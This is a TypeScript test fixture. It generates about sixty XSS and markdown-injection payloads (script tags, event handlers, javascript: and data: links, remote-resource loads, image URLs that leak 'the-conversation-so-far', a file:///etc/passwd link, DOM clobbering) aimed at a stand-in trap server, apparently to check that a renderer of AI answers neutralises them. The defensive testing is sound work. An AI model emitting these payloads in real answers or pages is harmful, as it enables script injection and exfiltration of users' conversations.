/** An answer that tries something. */
export type Attack = { readonly name: string; readonly markdown: string };

/**
 * Answers that try to run a script, to reach a server or to lead the page away, without a click.
 *
 * `trap` is a server that nothing may reach. A script that runs leaves its number in `window.ran`.
 */
export const attacks = (trap: string): readonly Attack[] => {
  let number = 0;
  const list: Attack[] = [];
  const add = (name: string, make: (run: string, url: string) => string) => {
    number += 1;
    const run = `(window.ran=window.ran||[]).push(${number})`;
    list.push({ name, markdown: make(run, `${trap}/${number}`) });
  };

  add("a script element", (run) => `Text <script>${run}</script> text`);
  add("a script element as a block", (run, url) => `<script>\n${run}\nfetch("${url}")\n</script>`);
  add("a script from elsewhere", (_, url) => `<script src="${url}.js"></script>`);
  add("a module from elsewhere", (_, url) => `<script type=module>import "${url}.js"</script>`);
  add("an image that fails", (run) => `<img src=x onerror="${run}">`);
  add("an image without quotes", (run) => `<img/src/onerror=${run.replaceAll(" ", "")}>`);
  add("an SVG that loads", (run) => `<svg onload="${run}"><circle r=5 /></svg>`);
  add("an SVG with a script", (run) => `<svg><script>${run}</script></svg>`);
  add("an SVG animation", (run) => `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`);
  add("an SVG that includes", (_, url) => `<svg><use href="${url}.svg#a"/></svg>`);
  add("an SVG image", (_, url) => `<svg><image href="${url}.png" width=9 height=9 /></svg>`);
  add("MathML with a link", (run) => `<math><mi xlink:href="javascript:${run}">x</mi></math>`);
  add(
    "an open details element",
    (run) => `<details open ontoggle="${run}"><summary>a</summary></details>`,
  );
  add("a field that takes the focus", (run) => `<input autofocus onfocus="${run}">`);
  add("a body with a handler", (run) => `<body onload="${run}" onpageshow="${run}">`);
  add("a frame", (_, url) => `<iframe src="${url}"></iframe>`);
  add(
    "a frame with its own document",
    (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  );
  add("a frame of script", (run) => `<iframe src="javascript:parent.${run}"></iframe>`);
  add("an object", (_, url) => `<object data="${url}.swf"></object><embed src="${url}.pdf">`);
  add("a style sheet from elsewhere", (_, url) => `<link rel=stylesheet href="${url}.css">`);
  add("a style that imports", (_, url) => `<style>@import "${url}.css";</style>`);
  add("a style with a background", (_, url) => `<p style="background:url(${url}.png)">text</p>`);
  add(
    "a style that covers the page",
    () => `<div style="position:fixed;inset:0;background:red">over</div>`,
  );
  add("a refresh", (_, url) => `<meta http-equiv="refresh" content="0;url=${url}">`);
  add(
    "a base",
    (_, url) => `<base href="${url}/">\n\n[a link](relative) and ![an image](image.png)`,
  );
  add("a form", (_, url) => `<form action="${url}"><input name=q value=v autofocus></form>`);
  add(
    "a prefetch",
    (_, url) => `<link rel=prefetch href="${url}"><link rel=dns-prefetch href="${url}">`,
  );
  add(
    "a preconnect and a manifest",
    (_, url) => `<link rel=preconnect href="${url}"><link rel=manifest href="${url}">`,
  );
  add(
    "audio and video",
    (_, url) =>
      `<audio src="${url}.mp3" autoplay></audio><video poster="${url}.png" src="${url}.mp4"></video>`,
  );
  add(
    "a picture with sources",
    (_, url) => `<picture><source srcset="${url}.webp"><img src="${url}.png"></picture>`,
  );
  add(
    "a portal and a fenced frame",
    (_, url) => `<portal src="${url}"></portal><fencedframe src="${url}"></fencedframe>`,
  );
  add("a remote image", (_, url) => `![a chart](${url}.png)`);
  add("a remote image by reference", (_, url) => `![a chart][far]\n\n[far]: ${url}.png "title"`);
  add("a remote image in a link", (_, url) => `[![a chart](${url}.png)](${url})`);
  add("a remote image in a table", (_, url) => `| a | b |\n| - | - |\n| ![x](${url}.png) | b |`);
  add(
    "a remote image in a heading",
    (_, url) => `# ![x](${url}.png)\n\nSetext ![x](${url}-2.png)\n===`,
  );
  add("a remote image without a scheme", (_, url) => `![x](${url.replace("http:", "")}.png)`);
  add("what was said, sent as a query", (_, url) => `![](${url}?q=the-conversation-so-far)`);
  add("an image of script", (run) => `![x](javascript:${run})`);
  add("an image with a handler in its name", (run) => `![x" onerror="${run}](x)`);
  add("a link of script", (run) => `[press here](javascript:${run})`);
  add(
    "a link of script in disguise",
    (run) => `[a](JaVaScRiPt&colon;${run}) [b](java\tscript:${run}) [c](&#106;avascript:${run})`,
  );
  add(
    "a link of data",
    (run) => `[a](data:text/html,<script>${run}</script>) [b](data:text/html;base64,PHNjcmlwdD4=)`,
  );
  add("a link of an older script", (run) => `[a](vbscript:${run}) [b](livescript:${run})`);
  add(
    "a link to a file and to the core",
    () => `[a](file:///etc/passwd) [b](tauri://localhost/) [c](ipc://localhost/call)`,
  );
  add("an address in angle brackets", (run) => `<javascript:${run}> <data:text/html,x>`);
  add("a link by reference to script", (run) => `[a][b]\n\n[b]: javascript:${run}`);
  add(
    "a link whose title breaks out",
    (run) => `[a](https://example.com "x\\" onmouseover=\\"${run}")`,
  );
  add("a fence whose language breaks out", (run) => `\`\`\`js" onload="${run}\ncode\n\`\`\``);
  add(
    "a fence that is a page",
    (run, url) => `\`\`\`html\n<script>${run}</script><img src="${url}">\n\`\`\``,
  );
  add(
    "a diagram with a click",
    (run, url) =>
      `\`\`\`mermaid\ngraph TD\nA["<img src=${url} onerror='${run}'>"]\nclick A href "javascript:${run}"\n\`\`\``,
  );
  add(
    "a formula with HTML in it",
    (run, url) => `$$\\href{javascript:${run}}{x} \\includegraphics{${url}.png}$$`,
  );
  add("a comment that is not closed", (run) => `<!-- --!><script>${run}</script>`);
  add(
    "a section of character data",
    (run) => `<![CDATA[<script>${run}</script>]]> <?php ${run} ?>`,
  );
  add(
    "a template and a noscript",
    (run) => `<noscript><p title="</noscript><img src=x onerror=${run.replaceAll(" ", "")}>">`,
  );
  add(
    "names that shadow the page's own",
    () => `<img name=body><form id=root name=getElementById></form><a id=__TAURI_INTERNALS__></a>`,
  );
  add(
    "a template of another framework",
    (run) => `{{constructor.constructor('${run}')()}} \${${run}} <%= ${run} %>`,
  );
  add(
    "an entity for a bracket",
    (run) =>
      `&lt;script&gt;${run}&lt;/script&gt; &#60;img src=x onerror=${run.replaceAll(" ", "")}&#62;`,
  );
  add(
    "a null in a tag",
    (run) => `<scr\u0000ipt>${run}</scr\u0000ipt> <img src=x on\u0000error=${run}>`,
  );
  add(
    "text that turns round",
    (_, url) => `[\u202Emoc.knab\u202C](${url}) \u2066\u2067\u200B\u200F`,
  );
  add(
    "a very deep nesting",
    (run) =>
      `${"> ".repeat(400)}<img src=x onerror="${run}">\n\n${"[".repeat(2_000)}${"*".repeat(2_000)}`,
  );
  add(
    "a footnote and a definition",
    (run, url) =>
      `A note[^1].\n\n[^1]: <img src="${url}" onerror="${run}">\n\n*[a]: <b onclick="${run}">`,
  );
  return list;
};
